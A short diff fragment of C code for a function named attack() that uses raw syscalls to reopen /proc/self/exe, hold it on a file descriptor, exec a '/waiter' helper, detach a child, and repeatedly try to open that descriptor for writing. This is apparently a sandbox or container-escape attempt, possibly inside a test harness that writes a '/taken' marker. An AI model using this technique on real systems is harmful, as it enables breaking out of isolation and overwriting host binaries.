@@ -185,16 +185,16 @@ void attack(void)
     long ten_ms[2] = { 0, 10 * 1000 * 1000 };
     long held = call(SYS_openat, AT_FDCWD, (long)"/proc/self/fd/9", O_RDONLY, 0);
     if (held < 0) {
-        char *const argv[] = { "/waiter", 0 };
         held = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY, 0);
         call(SYS_dup3, held, 9, 0, 0);
-        say("/taken", "taken", 5);
-        call(SYS_execve, (long)argv[0], (long)argv, 0, 0);
+        call(SYS_execve, (long)"/waiter", 0, 0, 0);
         call(SYS_exit, 1, 0, 0, 0);
     }
     if (call(SYS_clone, 17 /* SIGCHLD */, 0, 0, 0) > 0)
-        call(SYS_exit, 0, 0, 0, 0);
+        for (;;)
+            call(SYS_nanosleep, (long)ten_ms, 0, 0, 0);
     call(SYS_setsid, 0, 0, 0, 0);
+    say("/taken", "taken", 5);
     for (;;) {
         long file = call(SYS_openat, AT_FDCWD, (long)"/proc/self/fd/9", O_WRONLY, 0);
         if (file >= 0)
